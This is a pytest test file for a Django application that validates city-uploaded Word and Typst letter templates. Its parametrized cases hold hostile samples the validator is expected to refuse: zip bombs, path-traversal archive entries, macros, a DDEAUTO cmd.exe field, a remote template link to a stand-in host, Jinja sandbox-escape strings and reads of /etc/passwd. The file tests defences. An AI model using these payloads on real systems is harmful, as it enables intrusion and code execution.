"""A city's own templates are looked at, tried out, used, and let go again."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from tests.web.documents.conftest import KIND, REAL_BASE, TYPST, word_template

from tepat_web.accounts.access import Role
from tepat_web.documents import actions_means, archive, checking, samples, sets, trying
from tepat_web.documents.checking import Refused
from tepat_web.documents.models import Letter, Template
from tepat_web.documents.trying import File

pytestmark = pytest.mark.django_db
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def changed(content, **parts):
    """The Word file with parts put in place of, or beside, its own."""
    raw = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        kept = {name: old.read(name) for name in old.namelist()}
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as new:
        for name, held in (kept | parts).items():
            new.writestr(name, held)
    return raw.getvalue()


def part_of(content, name):
    with zipfile.ZipFile(io.BytesIO(content)) as archive_:
        return archive_.read(name)


GOOD = word_template("{{ number }}")
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc">]><a>&b;</a>'
OUTSIDE = (
    b'<Relationship Id="rId99" Target="http://jahat.example/t.dotm" '
    b'TargetMode="External" Type="http://x/attachedTemplate"/></Relationships>'
)
FIELD = b'<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:body>'


@pytest.mark.parametrize(
    "hostile",
    [
        changed(GOOD, **{"word/media/besar.xml": b"0" * (21 * 2**20)}),
        changed(GOOD, **{"../../jahat.xml": b"<a/>"}),
        changed(GOOD, **{"/etc/cron.d/jahat": b"<a/>"}),
        changed(GOOD, **{"word\\..\\jahat": b"<a/>"}),
        changed(GOOD, **{"word/vbaProject.bin": b"makro"}),
        changed(GOOD, **{"word/embeddings/oleObject1.bin": b"objek"}),
        changed(GOOD, **{"word/entitas.xml": BOMB}),
        changed(
            GOOD, **{RELS: part_of(GOOD, RELS).replace(b"</Relationships>", OUTSIDE)}
        ),
        changed(
            GOOD,
            **{
                TYPES: part_of(GOOD, TYPES).replace(
                    b"application/vnd.openxmlformats-officedocument."
                    b"wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            },
        ),
        changed(
            GOOD,
            **{
                "word/document.xml": part_of(GOOD, "word/document.xml").replace(
                    b"</w:body>", FIELD
                )
            },
        ),
        changed(GOOD, **{f"word/a{n}.xml": b"<a/>" for n in range(200)}),
        GOOD[: len(GOOD) // 2],
        b"MZ\x90\x00 ini bukan Word",
        b"",
        b"P" * (2 * 2**20 + 1),
    ],
    ids=[
        *("zip-bomb", "traversal", "absolute", "backslash", "macro", "object"),
        *("entities", "outside", "macro-type", "dde", "too-many", "cut-off"),
        *("program", "empty", "too-large"),
    ],
)
def test_a_hostile_word_file_is_refused_before_it_is_filled(hostile):
    with pytest.raises(Refused):
        checking.word(hostile)


@pytest.mark.parametrize(
    "code",
    [
        "{{ number.__class__.__mro__ }}",
        "{{ number['__class__'] }}",
        "{{ number|attr('__class__') }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ ''.format_map(number) }}",
        "{{ range(10**9)|list }}",
        "{{ 'a' * 10**9 }}",
        "{% for a in number %}{% for b in number recursive %}x{% endfor %}{% endfor %}",
        "{% set x = number %}{{ x }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% macro m() %}{{ caller() }}{% endmacro %}",
        "{{ number|format(1) }}",
        "{{ number|selectattr('a.__class__')|list }}",
        "{{ lipsum() }}",
    ],
)
def test_code_that_would_escape_or_run_wild_is_refused(code):
    with pytest.raises(Refused):
        checking.word(word_template(code))


@pytest.mark.parametrize(
    "source",
    [
        b'#import "@preview/tablex:0.0.8": *',
        rb'#import "\u{40}preview/tablex:0.0.8": *',
        b'#import (str.from-unicode(64) + data.person.nip + ":0.1.0"): *',
        b'#{ import\n"a" + data.person.nip }',
        b'#(include "a.typ"\n + data.person.nip)',
        b'#let run = eval\n#run("im" + "port")',
        b'#dictionary(std).at("ev" + "al")("1")',
        b"#let p = plugin(bytes((0,)))",
        b"\xff\xfe bukan teks",
        b"a" * (200 * 2**10 + 1),
    ],
)
def test_typst_with_foreign_code_is_refused(source):
    with pytest.raises(Refused):
        checking.typst(source)


def test_what_a_template_needs_may_stand_in_it():
    checking.word(
        word_template("{% for each in number %}{{ each.name|dash }}{% endfor %}")
    )
    checking.typst(TYPST)


@pytest.mark.parametrize("form", samples.CONTENTS)
def test_the_built_in_templates_pass_what_a_city_s_own_have_to(form, monkeypatch):
    monkeypatch.setattr(sets, "base", REAL_BASE)
    files = sets.base(form)
    checking.word(files[f"{form}.docx"])
    checking.typst(files[f"{form}.typ"])


def test_a_template_is_tried_out_and_its_fault_named(monkeypatch):
    monkeypatch.setattr(sets, "base", REAL_BASE)
    trying.try_out(
        KIND,
        None,
        File(
            "baik.typ", b"#let data = json(bytes(sys.inputs.data))\n#data.text.number"
        ),
    )
    with pytest.raises(Refused, match=r"pemberitahuan\.typ.*line 2.*unknown variable"):
        trying.try_out(KIND, None, File("salah.typ", b"#let a = 1\n#tak-ada\n"))
    with pytest.raises(Refused, match="tak_ada"):
        trying.try_out(KIND, File("salah.docx", word_template("{{ tak_ada }}")), None)
    with pytest.raises(Refused):
        outside = b'#read("../../../../../etc/passwd")'
        trying.try_out(KIND, None, File("luar.typ", outside))


def test_a_template_that_takes_too_much_is_stopped(monkeypatch):
    monkeypatch.setattr(sets, "base", REAL_BASE)
    monkeypatch.setattr(trying, "PATIENCE", 3)
    greedy = b"#let a = range(200000000).map(it => str(it) * 99)\n"
    with pytest.raises(Refused, match="time or memory"):
        trying.try_out(KIND, None, File("rakus.typ", greedy))


@pytest.fixture
def version(planner):
    def keep(typst):
        tried = trying.Tried(KIND, None, File(r"C:\kop\..\baru.typ", typst))
        return actions_means.keep_template(by=planner, tried=tried, note="")

    return keep


def test_versions_are_kept_once_used_one_at_a_time_and_let_go(version, planner):
    one, again, two = (
        version(TYPST + b"Satu.\n"),
        version(TYPST + b"Satu.\n"),
        version(TYPST + b"Dua.\n"),
    )
    assert one == again
    assert (one.version, two.version, one.typst_name) == (1, 2, "baru.typ")
    for chosen in (one, two):
        actions_means.use_template(by=planner, template=chosen, form=KIND)
        assert list(Template.objects.filter(is_used=True)) == [chosen]
    with pytest.raises(actions_means.NotAllowed):
        actions_means.use_template(by=planner, template=two, form=KIND)
    actions_means.use_template(by=planner, template=None, form=KIND)
    assert not Template.objects.filter(is_used=True).exists()


def test_letters_are_filled_into_the_version_in_use(version, planner, write):
    before = sets.in_use(KIND)
    own = version(TYPST + b"Kota kami.\n")
    assert sets.in_use(KIND) == before
    actions_means.use_template(by=planner, template=own, form=KIND)
    write(count=1)
    assert Letter.objects.get().template_digest == sets.in_use(KIND) != before


def test_the_page_takes_a_template_names_its_fault_and_gives_it_back(
    planner, client_of, monkeypatch
):
    monkeypatch.setattr(trying, "fill", lambda form, files: None)
    browser, page = client_of(planner), reverse("documents:templates")
    wrong = SimpleUploadedFile("buruk.docx", word_template("{{ a.__class__ }}"))
    answer = browser.post(page, {"form": KIND, "word": wrong})
    assert answer.status_code == 422
    assert "__class__" in answer.content.decode()
    right = SimpleUploadedFile("baik.docx", GOOD)
    answer = browser.post(page, {"form": KIND, "word": right, "note": "Kop baru"})
    assert answer.status_code == 302
    assert "Kop baru" in browser.get(page).content.decode()
    use = reverse("documents:use-template", args=[KIND])
    assert browser.post(use, {"version": 1}).status_code == 302
    assert Template.objects.get().is_used
    given = browser.get(reverse("documents:template-file", args=[KIND, 1, "docx"]))
    assert given.content == GOOD == archive.read(Template.objects.get().word)
    assert browser.post(page, {"form": KIND}).status_code == 422


def test_pictures_of_arms_are_small_pngs():
    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0\0\0\x10" * 2
    checking.picture(png)
    for wrong in (b"GIF89a" + b"\0" * 40, png[:16] + b"\xff" * 8, b""):
        with pytest.raises(Refused):
            checking.picture(wrong)


def test_others_see_no_templates(user_with, client_of):
    for role in (Role.AUDITOR, Role.AUTHORITY, Role.OFFICER):
        browser = client_of(user_with(role))
        assert browser.get(reverse("documents:templates")).status_code == 403
